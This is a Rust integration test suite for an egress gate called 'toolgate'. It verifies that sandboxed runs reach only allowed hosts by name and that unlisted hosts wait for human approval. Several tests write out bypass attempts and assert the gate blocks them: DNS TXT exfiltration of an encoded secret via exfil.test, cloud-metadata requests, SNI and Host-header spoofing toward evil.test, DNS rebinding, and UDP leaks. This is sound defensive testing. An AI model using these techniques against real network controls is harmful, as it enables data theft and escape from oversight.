//! Issue 27 end to end: networked runs leave only through the executor's egress gate, by name.
//!
//! Each test builds its own fake internet ([`Internet`]: a network namespace with public-looking
//! addresses, DNS, HTTP, HTTPS, git and ssh servers), starts `toolgate up` inside it under
//! `tests/egress_policy.toml` (allowed.test auto on 22/80/443, denied.test deny, everything else
//! ask), and drives real clients in real `network` runs with the `toolgate` CLI. What the gate
//! decided comes from `toolgate run --json`'s `exited.network`; what actually arrived comes from
//! the fake servers' log.

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::internet::{
    self, ALLOWED_IP, Internet, METADATA_IP, PRIVATE_IP, REBIND, TCP_PORT, UDP_PORT,
};
use crate::support::{Placement, Up, text};

/// The unprivileged user the non-root executor runs as.
const NOBODY: u32 = 65534;

/// A fake internet with `toolgate up` running inside it.
struct Net {
    // Dropped in this order: `up` first, then its namespace.
    up: Up,
    inet: Internet,
    /// Holds the workspace (`ws`) and the data directory (`state`).
    root: tempfile::TempDir,
}

/// One `toolgate run --json`, parsed.
struct Run {
    /// The CLI's own exit status.
    code: Option<i32>,
    /// The child's stdout and stderr, from the `output` events.
    stdout: String,
    stderr: String,
    /// `exited.network`: one entry per destination the gate saw.
    network: Vec<Value>,
    /// Everything, for assertion messages.
    raw: String,
}

impl Net {
    fn start() -> Net {
        Net::start_as(None)
    }

    /// The fake internet and `up` in it, the executor as `uid` when given.
    fn start_as(uid: Option<u32>) -> Net {
        let inet = Internet::start();
        let root = tempfile::tempdir().unwrap();
        std::fs::set_permissions(root.path(), PermissionsExt::from_mode(0o755)).unwrap();
        let ws = root.path().join("ws");
        std::fs::create_dir(&ws).unwrap();
        // The clients' trust anchors, where a run can read them.
        std::fs::copy(inet.ca(), ws.join("ca.pem")).unwrap();
        let policy = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/egress_policy.toml");
        let up = Up::launch(
            &ws,
            &root.path().join("state"),
            &[],
            &[],
            &policy,
            &Placement {
                netns: Some(&inet.ns),
                uid,
            },
        );
        Net { up, inet, root }
    }

    fn ws(&self) -> PathBuf {
        self.root.path().join("ws")
    }

    /// The CA file inside the workspace.
    fn ca(&self) -> String {
        self.ws().join("ca.pem").display().to_string()
    }

    /// `toolgate run --profile network --json --wait` with `args` (`--script ...` or `-- argv`),
    /// started.
    fn spawn(&self, args: &[&str]) -> Stream<'_> {
        let mut all = vec![
            "run",
            "--profile",
            "network",
            "--json",
            "--timeout",
            "60s",
            "--wait",
            "60s",
        ];
        all.extend(args);
        let mut child = self
            .up
            .command("agent", &all)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start toolgate run");
        let out = BufReader::new(child.stdout.take().unwrap());
        let mut err = child.stderr.take().unwrap();
        let stderr = std::thread::spawn(move || {
            let mut s = String::new();
            let _ = std::io::Read::read_to_string(&mut err, &mut s);
            s
        });
        Stream {
            up: &self.up,
            child,
            out,
            stderr,
            events: Vec::new(),
            started: false,
        }
    }

    /// [`Net::spawn`] to its end.
    fn run(&self, args: &[&str]) -> Run {
        self.spawn(args).finish()
    }

    /// A bash script in a `network` run.
    fn script(&self, script: &str) -> Run {
        self.run(&["--script", script])
    }
}

/// A `toolgate run --json` in progress.
struct Stream<'a> {
    up: &'a Up,
    child: Child,
    out: BufReader<std::process::ChildStdout>,
    stderr: std::thread::JoinHandle<String>,
    /// Every event so far.
    events: Vec<Value>,
    started: bool,
}

impl Stream<'_> {
    /// The next event, or None at the end. The approval the command itself needs before it
    /// starts (the policy may ask about running a network client at all: that is not what these
    /// tests are about) is granted on the way, as a human would; what the gate asks once the
    /// run has started is left to the test.
    fn next(&mut self) -> Option<Value> {
        loop {
            let mut line = String::new();
            if self.out.read_line(&mut line).expect("read toolgate run") == 0 {
                return None;
            }
            let Ok(v) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            self.events.push(v.clone());
            match v["event"].as_str() {
                Some("started") => self.started = true,
                Some("awaiting_approval") if !self.started => {
                    let id = v["approval_id"].as_str().expect("approval id");
                    let o = self.up.run("approver", &["approvals", "approve", id]);
                    assert!(o.status.success(), "{}", text(&o));
                    continue;
                }
                _ => {}
            }
            return Some(v);
        }
    }

    /// Reads events until one satisfies `found`, and returns it.
    fn until(&mut self, what: &str, found: impl Fn(&Value) -> bool) -> Value {
        while let Some(v) = self.next() {
            if found(&v) {
                return v;
            }
        }
        panic!("the run ended before {what}: {:?}", self.events)
    }

    /// Reads to the end and waits for the CLI.
    fn finish(mut self) -> Run {
        while self.next().is_some() {}
        let status = self.child.wait().expect("wait for toolgate run");
        let stderr = self.stderr.join().unwrap_or_default();
        Run::parse(status.code(), &self.events, &stderr)
    }
}

impl Run {
    fn parse(code: Option<i32>, events: &[Value], stderr: &str) -> Run {
        let mut run = Run {
            code,
            stdout: String::new(),
            stderr: String::new(),
            network: Vec::new(),
            raw: format!(
                "status {code:?}\n--- events\n{}\n--- stderr\n{stderr}",
                events
                    .iter()
                    .map(Value::to_string)
                    .collect::<Vec<_>>()
                    .join("\n")
            ),
        };
        for v in events {
            match v["event"].as_str() {
                Some("output") => {
                    let data = v["data"].as_str().unwrap_or("<not utf-8>");
                    if v["stream"] == "stderr" {
                        run.stderr.push_str(data);
                    } else {
                        run.stdout.push_str(data);
                    }
                }
                Some("exited") => {
                    run.network = v["network"].as_array().cloned().unwrap_or_default();
                }
                _ => {}
            }
        }
        run
    }

    /// The gate's record for `host:port`.
    fn destination(&self, host: &str, port: u16) -> &Value {
        self.network
            .iter()
            .find(|d| d["host"] == host && d["port"] == port)
            .unwrap_or_else(|| panic!("no network record for {host}:{port} in\n{}", self.raw))
    }

    /// Asserts the gate refused `host:port` for `reason` (at least once).
    fn assert_refused(&self, host: &str, port: u16, reason: &str) {
        let d = self.destination(host, port);
        assert_eq!(d["refusal"], reason, "{host}:{port}: {d}\n{}", self.raw);
        assert!(d["refused"].as_u64() >= Some(1), "{d}");
    }

    /// Asserts the run exited 0.
    fn assert_ok(&self) {
        assert_eq!(self.code, Some(0), "{}", self.raw);
    }

    /// Asserts the run exited 0 having printed `stdout`, and that the gate let it reach
    /// allowed.test on each of `ports` under the `allowed-test` rule, at the address it pinned,
    /// with bytes both ways.
    fn assert_reached_allowed(&self, stdout: &str, ports: &[u16]) {
        self.assert_ok();
        assert_eq!(self.stdout, stdout, "{}", self.raw);
        for &port in ports {
            let d = self.destination("allowed.test", port);
            assert_eq!(d["tier"], "auto", "{d}");
            assert_eq!(d["rule_id"], "allowed-test", "{d}");
            assert_eq!(d["address"], format!("{ALLOWED_IP}:{port}"), "{d}");
            assert_eq!(
                (&d["refused"], &d["refusal"]),
                (&0.into(), &"".into()),
                "{d}"
            );
            assert!(d["bytes_sent"].as_u64() > Some(0), "{d}");
            assert!(d["bytes_received"].as_u64() > Some(0), "{d}");
        }
    }
}

/// The reply of a fake web server at `addr:port` asked for `host`.
fn hello(addr: &str, port: u16, host: &str) -> String {
    format!("hello from {addr}:{port} for {host}\n")
}

#[test]
fn curl_reaches_an_allowed_host_by_name_over_http_and_https() {
    let net = Net::start();
    let run = net.script(&format!(
        "curl -sS http://allowed.test/ && curl -sS --cacert {} https://allowed.test/",
        net.ca()
    ));
    run.assert_reached_allowed(
        &(hello(ALLOWED_IP, 80, "allowed.test") + &hello(ALLOWED_IP, 443, "allowed.test")),
        &[80, 443],
    );
    assert!(
        net.inet
            .log()
            .contains(&format!("http {ALLOWED_IP}:443 allowed.test /")),
        "{}",
        net.inet.log()
    );
}

#[test]
fn a_client_that_ignores_proxy_settings_is_captured_transparently() {
    let net = Net::start();
    // A garbage proxy in the environment, ignored by curl, and a raw socket that knows no
    // proxy at all: both reach the host because the gate is in the path, not in the settings.
    let run = net.script(&format!(
        "export HTTPS_PROXY=http://proxy.invalid:1 https_proxy=http://proxy.invalid:1 \
           HTTP_PROXY=http://proxy.invalid:1 http_proxy=http://proxy.invalid:1 ALL_PROXY=http://proxy.invalid:1
         curl --noproxy '*' -sS --cacert {} https://allowed.test/ &&
         python3 -c 'import socket
s = socket.create_connection((\"allowed.test\", 80))
s.sendall(b\"GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n\")
reply = b\"\"
while chunk := s.recv(65536):
    reply += chunk
print(reply.decode().split(\"\\r\\n\\r\\n\", 1)[1], end=\"\")'",
        net.ca()
    ));
    run.assert_reached_allowed(
        &(hello(ALLOWED_IP, 443, "allowed.test") + &hello(ALLOWED_IP, 80, "allowed.test")),
        &[443, 80],
    );
}

#[test]
fn python_urllib_reaches_an_allowed_host_by_name() {
    let net = Net::start();
    let run = net.run(&[
        "--",
        "python3",
        "-c",
        &format!(
            "import ssl, urllib.request\n\
             ctx = ssl.create_default_context(cafile={:?})\n\
             print(urllib.request.urlopen('https://allowed.test/', context=ctx).read().decode(), end='')",
            net.ca()
        ),
    ]);
    run.assert_reached_allowed(&hello(ALLOWED_IP, 443, "allowed.test"), &[443]);
}

#[test]
fn node_https_get_reaches_an_allowed_host_by_name() {
    let net = Net::start();
    let run = net.script(&format!(
        "NODE_EXTRA_CA_CERTS={} node -e \"require('https').get('https://allowed.test/', r => r.pipe(process.stdout)).on('error', e => {{ console.error(e); process.exit(1) }})\"",
        net.ca()
    ));
    run.assert_reached_allowed(&hello(ALLOWED_IP, 443, "allowed.test"), &[443]);
}

#[test]
fn git_clones_over_https_from_an_allowed_host() {
    let net = Net::start();
    let run = net.script(&format!(
        "GIT_SSL_CAINFO={} git clone -q https://allowed.test/repo.git cloned && cat cloned/README",
        net.ca()
    ));
    run.assert_reached_allowed("served by the fake internet\n", &[443]);
    assert!(net.ws().join("cloned/.git").is_dir());
    assert!(
        net.inet.log().contains(&format!(
            "http {ALLOWED_IP}:443 allowed.test /repo.git/info/refs"
        )),
        "{}",
        net.inet.log()
    );
}

#[test]
fn git_clones_over_ssh_from_an_allowed_host() {
    let net = Net::start();
    let Some(key) = net.inet.ssh_key() else {
        eprintln!("SKIPPED git_clones_over_ssh_from_an_allowed_host: no sshd on this machine");
        return;
    };
    let ws_key = net.ws().join("id_ed25519");
    std::fs::copy(key, &ws_key).unwrap();
    std::fs::set_permissions(&ws_key, PermissionsExt::from_mode(0o600)).unwrap();
    let run = net.script(&format!(
        "GIT_SSH_COMMAND='ssh -i {} -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' \
         git clone -q root@allowed.test:{} cloned && cat cloned/README",
        ws_key.display(),
        net.inet.repository().display()
    ));
    run.assert_reached_allowed("served by the fake internet\n", &[22]);
}

/// The pending approvals `toolgate approvals list --json` shows.
fn pending(up: &Up) -> Vec<Value> {
    let o = up.run(
        "approver",
        &["approvals", "list", "--state", "pending", "--json"],
    );
    assert!(o.status.success(), "{}", text(&o));
    match serde_json::from_slice::<Value>(&o.stdout) {
        Ok(Value::Array(a)) => a,
        other => panic!("approvals list --json: {other:?}\n{}", text(&o)),
    }
}

#[test]
fn an_unlisted_host_asks_and_the_approved_connection_proceeds() {
    let net = Net::start();
    let mut run = net.spawn(&[
        "--",
        "curl",
        "-sS",
        "--max-time",
        "50",
        "http://unlisted.test/",
    ]);
    // The gate holds the connection and says so on the run's stream.
    let asked = run.until("the gate asks about unlisted.test", |v| {
        v["event"] == "awaiting_approval"
    });
    let id = asked["approval_id"].as_str().unwrap().to_owned();
    let listed = pending(&net.up);
    let approval = listed
        .iter()
        .find(|a| a["approval_id"] == id.as_str())
        .unwrap_or_else(|| panic!("{id} not pending: {listed:?}"));
    assert_eq!(approval["call"]["tool"], "net.connect", "{approval}");
    assert!(approval.to_string().contains("unlisted.test"), "{approval}");
    // Nothing reached the host while no human had decided.
    assert!(
        !net.inet.log().contains("unlisted.test"),
        "{}",
        net.inet.log()
    );
    let o = net.up.run("approver", &["approvals", "approve", &id]);
    assert!(o.status.success(), "{}", text(&o));
    let run = run.finish();
    run.assert_ok();
    assert_eq!(
        run.stdout,
        hello(internet::UNLISTED_IP, 80, "unlisted.test"),
        "{}",
        run.raw
    );
    let d = run.destination("unlisted.test", 80);
    assert_eq!(d["approval_id"], id.as_str(), "{d}");
    assert_eq!(d["tier"], "ask", "{d}");
    assert_eq!(d["refused"], 0, "{d}");
}

#[test]
fn a_denied_host_is_refused_with_reason_denied() {
    let net = Net::start();
    let run = net.run(&["--", "curl", "-sS", "http://denied.test/"]);
    assert_ne!(run.code, Some(0), "{}", run.raw);
    // Refused at the gate's DNS (NXDOMAIN: curl's 6; recorded as a lookup, port 0) or at the
    // connection (port 80): either way recorded as `denied`.
    let port = if run.code == Some(6) { 0 } else { 80 };
    run.assert_refused("denied.test", port, "denied");
    assert!(
        !net.inet.log().contains("denied.test"),
        "{}",
        net.inet.log()
    );
}

#[test]
fn an_ip_literal_is_refused() {
    let net = Net::start();
    let run = net.script(&format!(
        "curl -sS -w '%{{http_code}}\\n' http://{ALLOWED_IP}/; \
         python3 -c 'import socket; socket.create_connection((\"{ALLOWED_IP}\", {TCP_PORT})).recv(64)' && echo tcp-open"
    ));
    assert!(run.stdout.contains("403"), "{}", run.raw);
    assert!(
        run.stdout.contains("ip_literal"),
        "403 body names the reason: {}",
        run.raw
    );
    assert!(!run.stdout.contains("tcp-open"), "{}", run.raw);
    run.assert_refused(ALLOWED_IP, 80, "ip_literal");
    run.assert_refused(ALLOWED_IP, TCP_PORT, "ip_literal");
    let log = net.inet.log();
    assert!(!log.contains(&format!("http {ALLOWED_IP}:80")), "{log}");
    assert!(
        !log.contains(&format!("tcp {ALLOWED_IP}:{TCP_PORT}")),
        "{log}"
    );
}

#[test]
fn cloud_metadata_is_refused_by_name_and_by_address() {
    let net = Net::start();
    let run = net.script(&format!(
        "curl -sS http://metadata.test/latest/meta-data/; curl -sS http://{METADATA_IP}/latest/meta-data/; true"
    ));
    run.assert_refused("metadata.test", 80, "forbidden_address");
    run.assert_refused(METADATA_IP, 80, "ip_literal");
    let log = net.inet.log();
    assert!(!log.contains(&format!("http {METADATA_IP}:80")), "{log}");
}

#[test]
fn names_resolving_to_the_hosts_loopback_or_a_private_range_are_refused() {
    let net = Net::start();
    let run = net.script("curl -sS http://loopback.test/; curl -sS http://private.test/; true");
    run.assert_refused("loopback.test", 80, "forbidden_address");
    run.assert_refused("private.test", 80, "forbidden_address");
    let log = net.inet.log();
    assert!(!log.contains("http 127.0.0.1:80"), "{log}");
    assert!(!log.contains(&format!("http {PRIVATE_IP}:80")), "{log}");
}

#[test]
fn a_rebinding_dns_answer_never_reaches_a_private_address() {
    let net = Net::start();
    // rebind.test answers the public address once, then the private one: however often the
    // gate resolves it, no connection may land on the private address.
    let (name, public, private) = REBIND;
    let run = net.script(&format!(
        "for i in 1 2 3; do curl -sS --max-time 10 http://{name}/; done; true"
    ));
    let d = run.destination(name, 80);
    let log = net.inet.log();
    assert!(!log.contains(&format!("http {private}:80")), "{log}");
    if d["refused"].as_u64() > Some(0) {
        assert_eq!(d["refusal"], "forbidden_address", "{d}");
    }
    if d["address"] != "" {
        assert_eq!(d["address"], format!("{public}:80"), "{d}");
    }
    assert!(
        log.contains(&format!("dns {name} A")),
        "the gate resolved it itself: {log}"
    );
}

#[test]
fn tls_sni_that_differs_from_the_name_is_refused() {
    let net = Net::start();
    let run = net.run(&[
        "--",
        "curl",
        "-sS",
        "-k",
        "--connect-to",
        "evil.test:443:allowed.test:443",
        "https://evil.test/",
    ]);
    assert_ne!(run.code, Some(0), "{}", run.raw);
    run.assert_refused("allowed.test", 443, "sni_mismatch");
    let log = net.inet.log();
    assert!(!log.contains("evil.test"), "{log}");
}

#[test]
fn an_http_host_header_that_differs_from_the_name_is_refused() {
    let net = Net::start();
    let run = net.run(&[
        "--",
        "curl",
        "-sS",
        "-w",
        "%{http_code}\n",
        "-H",
        "Host: evil.test",
        "http://allowed.test/",
    ]);
    assert!(run.stdout.contains("403"), "{}", run.raw);
    assert!(
        run.stdout.contains("host_mismatch"),
        "403 body names the reason: {}",
        run.raw
    );
    run.assert_refused("allowed.test", 80, "host_mismatch");
    let log = net.inet.log();
    assert!(!log.contains("evil.test"), "{log}");
}

#[test]
fn mptcp_sockets_are_refused() {
    let net = Net::start();
    let run = net.run(&[
        "--",
        "python3",
        "-c",
        "import socket\n\
         try:\n    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n    print('created')\n\
         except OSError as e:\n    print('errno', e.errno)",
    ]);
    run.assert_ok();
    // EPROTONOSUPPORT: programs fall back to plain TCP, which the gate sees.
    assert_eq!(run.stdout, "errno 93\n", "{}", run.raw);
}

/// Sends `payload` to the UDP listener from inside the fake internet itself, and waits until
/// the listener logged it: a barrier after which an earlier datagram would have arrived too.
fn udp_barrier(inet: &Internet, payload: &str) {
    let o = inet
        .command("/usr/bin/python3")
        .args([
            "-c",
            &format!(
                "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{payload}', ('{ALLOWED_IP}', {UDP_PORT}))"
            ),
        ])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let hex: String = payload.bytes().map(|b| format!("{b:02x}")).collect();
    let until = Instant::now() + Duration::from_secs(10);
    while !inet.log().contains(&hex) {
        assert!(
            Instant::now() < until,
            "the UDP listener never logged {payload}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn udp_never_leaves_a_run() {
    let net = Net::start();
    udp_barrier(&net.inet, "control-before");
    let run = net.run(&[
        "--",
        "python3",
        "-c",
        &format!(
            "import socket\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             for dst in [('{ALLOWED_IP}', {UDP_PORT}), ('allowed.test', {UDP_PORT})]:\n\
             \x20   try:\n        s.sendto(b'from-the-run', dst)\n        print('sent')\n\
             \x20   except OSError as e:\n        print('errno', e.errno)"
        ),
    ]);
    run.assert_ok();
    udp_barrier(&net.inet, "control-after");
    let log = net.inet.log();
    let leaked: String = "from-the-run".bytes().map(|b| format!("{b:02x}")).collect();
    assert!(
        !log.contains(&leaked),
        "a datagram left the run: {log}\n{}",
        run.raw
    );
}

#[test]
fn dns_txt_exfiltration_is_refused_and_never_reaches_a_resolver() {
    let net = Net::start();
    let run = net.run(&[
        "--",
        "python3",
        "-c",
        "import socket, struct\n\
         ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]\n\
         name = b''.join(bytes([len(p)]) + p for p in b'c2VjcmV0.exfil.test'.split(b'.')) + b'\\0'\n\
         q = struct.pack('!HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('!HH', 16, 1)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         s.settimeout(10)\n\
         s.sendto(q, (ns, 53))\n\
         r = s.recv(4096)\n\
         print('rcode', r[3] & 15, 'answers', struct.unpack('!H', r[6:8])[0])\n\
         a = socket.gethostbyname('bWFpbA.exfil.test')\n\
         print('placeholder', a.startswith('198.18.') or a.startswith('198.19.'))",
    ]);
    run.assert_ok();
    // REFUSED for TXT; an A query for an undecided name gets a placeholder, asked of nobody.
    assert_eq!(
        run.stdout, "rcode 5 answers 0\nplaceholder True\n",
        "{}",
        run.raw
    );
    run.assert_refused("c2vjcmv0.exfil.test", 0, "query_type");
    let log = net.inet.log();
    assert!(
        !log.contains("exfil"),
        "the name reached the fake DNS server: {log}"
    );
}

#[test]
fn inbound_connections_never_reach_a_run() {
    let net = Net::start();
    let mut run = net.spawn(&[
        "--script",
        "python3 -m http.server 8080 --bind 0.0.0.0 >/dev/null 2>&1 &
         until curl -s -o /dev/null http://127.0.0.1:8080/; do sleep 0.05; done
         echo listening
         while test ! -e done; do sleep 0.05; done
         kill %1",
    ]);
    run.until("the run's server listens", |v| {
        v["event"] == "output" && v["data"] == "listening\n"
    });
    // From the fake internet, on every address it has: nothing listens on 8080.
    let o = net
        .inet
        .command("/usr/bin/python3")
        .args([
            "-c",
            &format!(
                "import socket\n\
                 for a in ['127.0.0.1', '{ALLOWED_IP}', '0.0.0.0']:\n\
                 \x20   try:\n        socket.create_connection((a, 8080), timeout=5)\n        print(a, 'connected')\n\
                 \x20   except OSError as e:\n        print(a, 'errno', e.errno)"
            ),
        ])
        .output()
        .unwrap();
    std::fs::write(net.ws().join("done"), b"").unwrap();
    run.finish().assert_ok();
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        format!("127.0.0.1 errno 111\n{ALLOWED_IP} errno 111\n0.0.0.0 errno 111\n"),
        "{}",
        text(&o)
    );
}

#[test]
fn a_host_unix_socket_in_the_workspace_cannot_be_reached() {
    let net = Net::start();
    let host = std::os::unix::net::UnixListener::bind(net.ws().join("host.sock")).unwrap();
    std::fs::set_permissions(net.ws().join("host.sock"), PermissionsExt::from_mode(0o777)).unwrap();
    host.set_nonblocking(true).unwrap();
    let run = net.run(&[
        "--",
        "python3",
        "-c",
        "import socket\n\
         def reach(path):\n\
         \x20   s = socket.socket(socket.AF_UNIX)\n\
         \x20   try:\n        s.connect(path)\n        return 'connected'\n\
         \x20   except OSError as e:\n        return 'errno %d' % e.errno\n\
         print('host', reach('host.sock'))\n\
         own = socket.socket(socket.AF_UNIX)\n\
         own.bind('own.sock')\n\
         own.listen()\n\
         print('own', reach('own.sock'))",
    ]);
    run.assert_ok();
    assert!(run.stdout.starts_with("host errno "), "{}", run.raw);
    assert!(run.stdout.ends_with("own connected\n"), "{}", run.raw);
    assert_eq!(
        host.accept().map(|_| ()).map_err(|e| e.kind()),
        Err(std::io::ErrorKind::WouldBlock),
        "the host socket accepted a connection from the run"
    );
}

#[test]
fn as_an_unprivileged_executor_names_work_and_ip_literals_are_refused() {
    let net = Net::start_as(Some(NOBODY));
    let run = net.script(&format!(
        "curl -sS --cacert {} https://allowed.test/ && curl -sS -w '%{{http_code}}\\n' http://{ALLOWED_IP}/",
        net.ca()
    ));
    run.assert_ok();
    assert!(
        run.stdout
            .starts_with(&hello(ALLOWED_IP, 443, "allowed.test")),
        "{}",
        run.raw
    );
    assert!(run.stdout.contains("403"), "{}", run.raw);
    assert_eq!(run.destination("allowed.test", 443)["tier"], "auto");
    run.assert_refused(ALLOWED_IP, 80, "ip_literal");
}

/// The harness itself, without toolgate: inside the namespace, outside any run, the fake names
/// resolve and every server answers. What the tests above refuse is refused by the gate, not
/// missing from the fake internet.
#[test]
fn the_fake_internet_serves_every_name_directly() {
    let inet = Internet::start();
    let ca = inet.ca().display().to_string();
    let mut script = format!(
        "set -e; curl -sS http://allowed.test/; curl -sS --cacert {ca} https://allowed.test/; \
         curl -sS http://private.test/; curl -sS http://metadata.test/; curl -sS http://loopback.test/; \
         curl -sS --cacert {ca} https://unlisted.test/; \
         GIT_SSL_CAINFO={ca} git clone -q https://allowed.test/repo.git {dir}/direct; cat {dir}/direct/README",
        dir = inet.dir().display()
    );
    if let Some(key) = inet.ssh_key() {
        script.push_str(&format!(
            "; GIT_SSH_COMMAND='ssh -i {} -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null' \
             git clone -q root@allowed.test:{} {}/ssh; cat {}/ssh/README",
            key.display(),
            inet.repository().display(),
            inet.dir().display(),
            inet.dir().display()
        ));
    }
    let o = inet.command("bash").args(["-c", &script]).output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let mut expected = hello(ALLOWED_IP, 80, "allowed.test")
        + &hello(ALLOWED_IP, 443, "allowed.test")
        + &hello(PRIVATE_IP, 80, "private.test")
        + &hello(METADATA_IP, 80, "metadata.test")
        + &hello("127.0.0.1", 80, "loopback.test")
        + &hello(internet::UNLISTED_IP, 443, "unlisted.test")
        + "served by the fake internet\n";
    if inet.ssh_key().is_some() {
        expected.push_str("served by the fake internet\n");
    }
    assert_eq!(String::from_utf8_lossy(&o.stdout), expected, "{}", text(&o));
    udp_barrier(&inet, "direct");
    let log = inet.log();
    assert!(log.contains("dns allowed.test A"), "{log}");
}
